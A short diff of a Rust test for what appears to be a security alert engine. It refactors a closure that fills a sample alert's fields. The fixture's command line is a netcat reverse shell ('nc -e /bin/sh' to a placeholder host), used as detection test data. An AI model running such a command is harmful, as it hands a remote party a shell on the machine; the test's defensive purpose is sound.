@@ -210,7 +210,9 @@ fn snippets_are_judged_in_their_own_language() {
 fn claims_are_weighed() {
     let alert = {
         let mut alert = Alert::default();
-        let mut set = |key: &str, value: crate::model::Value| drop(alert.fields.set(key, value));
+        let mut set = |key: &str, value: crate::model::Value| {
+            alert.fields.set(key, value);
+        };
         set("evt.type", crate::model::Value::String("execve".into()));
         set("proc.cmdline", crate::model::Value::String("nc -e /bin/sh example.com 22".into()));
         set("proc.exepath", crate::model::Value::String("/usr/bin/nc".into()));
